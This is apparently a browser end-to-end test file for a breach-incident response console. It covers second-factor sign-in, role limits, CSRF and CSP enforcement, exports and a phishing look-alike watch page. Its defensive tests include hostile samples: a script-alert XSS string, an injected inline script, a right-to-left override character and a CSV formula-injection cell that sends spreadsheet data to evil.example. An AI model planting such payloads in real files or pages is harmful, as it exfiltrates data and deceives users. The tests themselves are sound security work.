"""What people do in the console, in chromium against the real server: sign in with the second
factor, see only their incidents and only the forms their role may use, record a decision,
complete a regulator draft, check a notice publicly; hostile leaked values stay inert; the CSP
is sent and honoured; reading works with JavaScript off."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from playwright.sync_api import Browser

from breachscope.case.db import session_scope
from breachscope.notify import verification
from breachscope.notify.config import load_config
from breachscope.watch.mail.store import MailCheckRow
from breachscope.watch.store import Lookalike
from tests.web.browser import Watched, axe_violations
from tests.web.case_builder import HOSTILE, NOW
from tests.web.conftest import Console, open_as
from tests.web.server import email_of, password_of


def _close(w: Watched) -> None:
    w.assert_clean()
    w.page.close()


def test_sign_in_needs_the_second_factor_for_legal(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, None)
    w.goto("/incidents/1/overview", status=200)  # redirected to the sign-in page
    assert w.page.url.startswith(console.base + "/sign-in")
    w.page.fill("#email", email_of("legal"))
    w.page.fill("#password", password_of("legal"))
    w.page.click("button[type=submit]")  # no code
    assert w.page.locator("main").inner_text().count("wrong") == 1
    w.page.fill("#password", password_of("legal"))
    w.page.fill("#totp", console.code("legal"))
    w.page.click("button[type=submit]")
    w.page.wait_for_url(console.base + "/incidents/1/overview")  # back where the person wanted to go
    w.goto("/")
    names = w.page.locator("main table a").all_inner_texts()
    assert names[0] == "Mixpanel analytics leak" and len(names) == 2  # not the third incident
    w.page.context.close()


def test_a_non_member_gets_404_and_no_name(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "communications")
    w.goto(f"/incidents/{console.case.other}/overview", status=404)
    assert "Someone else" not in w.page.content()
    w.goto("/incidents/99999/overview", status=404)
    w.page.close()


@pytest.mark.parametrize(
    ("role", "decide_forms", "task_forms", "audit_link"),
    [("legal", True, True, True), ("viewer", False, False, False), ("communications", False, True, False)],
)
def test_role_restrictions_are_visible(
    browser: Browser, console: Console, role: str, decide_forms: bool, task_forms: bool, audit_link: bool
) -> None:
    w = open_as(browser, console, role)
    w.goto("/incidents/1/duties")
    assert (w.page.locator("form[action$='/decision']").count() > 0) is decide_forms
    assert (w.page.get_by_role("link", name="Audit log").count() == 1) is audit_link
    w.goto("/incidents/1/tasks")
    assert (w.page.locator("form[action$='/status']").count() > 0) is task_forms
    w.goto("/incidents/1/notices/drafts/1")
    assert (w.page.locator("textarea").count() > 0) is decide_forms
    _close(w)


def test_the_server_refuses_what_the_page_hides(console: Console) -> None:
    with httpx.Client(base_url=console.base) as c:
        r = c.post(
            "/sign-in", data={"email": email_of("viewer"), "password": password_of("viewer")},
            headers={"origin": console.base},
        )  # fmt: skip
        assert r.status_code == 303
        r = c.post("/incidents/1/duties/x/decision", data={"verdict": "required", "why": "x"},
                   headers={"origin": console.base})  # fmt: skip
        assert r.status_code == 403  # no CSRF token (and the role may not decide)


def test_legal_records_a_decision_in_place(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "legal")
    w.goto("/incidents/1/duties")
    form = w.page.locator("form[action$='/decision']").first
    action = form.get_attribute("action")
    assert action is not None
    duty = action.split("/duties/")[1].split("/")[0]
    form.get_by_label("Not required").check()
    form.locator("textarea").fill("Only coarse location and device data; no harm likely <b>bold</b>")
    form.get_by_role("button", name="Record decision").click()  # htmx swaps the card in place
    card = w.page.locator(f"#duty-{duty}")
    card.get_by_text("Decision: not required by legal@team.example").wait_for()
    assert card.locator("b").count() == 0  # the reason is text
    w.goto("/incidents/1/timeline?kind=decision")
    assert f"Decision on {duty}: not required" in w.page.locator("main table").inner_text()
    _close(w)


def test_legal_completes_a_regulator_draft_and_exports_it(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "legal")
    w.goto("/incidents/1/notices/drafts/1")
    w.page.locator("textarea").first.fill("Tokens rotated; vendor stopped receiving data.")
    w.page.get_by_role("button", name="Save").click()
    w.page.wait_for_url("**/notices/drafts/1")
    assert "last saved by legal@team.example" in w.page.locator("main").inner_text()
    with w.page.expect_download() as got:
        w.page.get_by_role("link", name="Export as text").click()
    text = open(got.value.path(), encoding="utf-8").read()
    assert "Tokens rotated; vendor stopped receiving data." in text
    assert "[TO COMPLETE:" in text  # the field left empty stays a marker
    _close(w)


def test_hostile_values_are_inert(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "legal")
    dialogs: list[str] = []
    w.page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    for page in ("overview", "timeline"):
        w.goto(f"/incidents/{console.case.hostile}/{page}")
        main = w.page.locator("main")
        assert main.locator("script, img, svg[onload], iframe").count() == 0
        assert all("evil.example" not in (a.get_attribute("href") or "") for a in w.page.locator("a").all())
        text = main.inner_text()
        assert "\u202e" not in text and "\\u202e" in text  # the override is shown, not obeyed
    assert "<script>alert(1)</script>" in w.page.locator("main").inner_text()
    assert "https://evil.example/login" in w.page.locator("main").inner_text()  # as text, not a link
    assert dialogs == []
    _close(w)


def test_timeline_csv_cells_are_inert(console: Console, browser: Browser) -> None:
    w = open_as(browser, console, "legal")
    response = w.page.request.get(f"{console.base}/incidents/{console.case.hostile}/timeline.csv")
    assert response.status == 200
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    rows = list(csv.reader(io.StringIO(response.text())))
    authors = {r[2] for r in rows[1:]}
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")' in authors
    assert not any(cell[:1] in "=+-@" and cell for r in rows[1:] for cell in r)
    assert all("\u202e" not in cell for r in rows for cell in r)
    w.page.close()
    assert len(HOSTILE) == len([a for a in authors if a != "breachscope"])


def test_csp_is_sent_and_an_injected_inline_script_is_refused(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "legal")
    response = w.page.goto(console.base + "/incidents/1/overview")
    assert response is not None
    headers = response.headers
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["cache-control"] == "no-store"
    w.page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
        " document.body.appendChild(s); }"
    )
    assert w.page.evaluate("() => window.ran") is None
    assert any("Content Security Policy" in e for e in w.errors)  # chromium reported the refusal
    w.page.close()


def test_email_search_in_place(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "responder")
    w.goto("/incidents/1/scope")
    w.page.fill("#email", "nobody@nowhere.example")
    w.page.get_by_role("button", name="Search").click()
    w.page.locator("#search-result").get_by_text("Not in this leak").wait_for()
    assert w.page.url.endswith("/incidents/1/scope")  # in place: the address is in no URL
    _close(w)


def test_pages_read_with_javascript_off(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "legal", javascript=False)
    w.goto("/incidents/1/overview")
    due = w.page.locator("time[data-countdown]").first.inner_text()
    assert due.startswith(("overdue", "due"))  # rendered by the server
    w.goto("/incidents/1/scope")
    assert w.page.locator("main table tbody tr").count() >= 10
    w.page.context.close()


def test_public_check_answers_one_bit_and_is_rate_limited(browser: Browser, console: Console) -> None:
    key = load_config(console.case.notify_toml).verification_key.reveal()
    w = open_as(browser, console, None)

    def check(reference: str, phrase: str) -> str:
        w.goto("/check")
        w.page.fill("#reference", reference)
        w.page.fill("#phrase", phrase)
        w.page.get_by_role("button").click()
        return w.page.locator("[role=status]").inner_text()

    with httpx.Client() as _:
        pass
    from sqlalchemy import text

    with console.engine.connect() as conn:  # type: ignore[attr-defined]
        kind, rkey, ref = conn.execute(
            text("SELECT kind, recipient_key, reference FROM notify_outbox WHERE incident_id = 1 LIMIT 1")
        ).one()
    good = verification.phrase(key, 1, kind, rkey)
    assert check(ref.lower().replace("-", " "), good.upper()).startswith("Genuine")
    wrong = check(ref, "otter lantern quartz maple")
    unknown = check("00000-00000", good)
    assert wrong.startswith("Not genuine") and wrong == unknown  # nothing else to learn
    assert "Mixpanel" not in w.page.content()
    for _ in range(10):
        r = w.page.request.post(console.base + "/check", form={"reference": ref, "phrase": "x"})
        if r.status == 429:
            break
    assert r.status == 429
    w.page.context.close()


def test_the_report_button_downloads_the_incident_report(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "viewer")
    w.goto("/incidents/1/overview")
    with w.page.expect_download() as got:
        w.page.get_by_role("link", name="HTML").click()
    assert got.value.suggested_filename == "incident-1-report-en.html"
    text = open(got.value.path(), encoding="utf-8").read()
    assert "Mixpanel analytics leak" in text
    _close(w)


def test_preview_job_shows_live_progress_then_the_plan_to_send(browser: Browser, console: Console) -> None:
    w = open_as(browser, console, "communications")
    w.goto("/incidents/1/notices")
    w.page.select_option("#audience", "users")
    w.page.get_by_role("button", name="Preview the plan").click()
    w.page.wait_for_url("**/incidents/1/jobs/*")
    w.page.get_by_role("heading", name="Plan:").wait_for(timeout=60_000)  # htmx refreshed the job
    button = w.page.get_by_role("button", name="Send")
    assert button.count() == 1 and "notices" in button.inner_text()
    assert w.page.locator("input[name=expect_total]").get_attribute("value") not in (None, "")
    _close(w)


def test_the_phishing_watch_page_shows_what_the_watch_stored(browser: Browser, console: Console) -> None:
    """Look-alikes and reported-mail verdicts as stored by the watch; a look-alike is never a link."""
    incident = console.case.hostile
    with session_scope(console.engine) as s:  # type: ignore[arg-type]
        s.add(
            Lookalike(
                incident_id=incident, domain="xn--exmple-cua.com", official="example.com", kind="homoglyph",
                state="registered", receives_mail=True, records={"MX": ["mx.evil.example"]},
                first_seen=NOW, last_seen=NOW, last_checked=NOW, action="takedown",
            )
        )  # fmt: skip
        for n, verdict in enumerate(("phishing", "phishing", "genuine")):
            s.add(
                MailCheckRow(
                    incident_id=incident, sha256=f"{n:064d}", checked_at=NOW, source="file", verdict=verdict,
                    reasons=[], breach_specific=verdict == "phishing", leaked_fields=[],
                    sender_domain=None, incomplete=False, checked_by="test",
                )
            )  # fmt: skip
    w = open_as(browser, console, "viewer")
    w.goto(f"/incidents/{incident}/watch")
    text = w.page.locator("main").inner_text()
    assert "1 genuine · 0 suspicious · 2 phishing · 2 using data from the leak" in text
    assert "xn--exmple-cua.com" in text and "yes (MX)" in text
    assert all("exmple" not in (a.get_attribute("href") or "") for a in w.page.locator("a").all())
    assert axe_violations(w.page) == []
    _close(w)
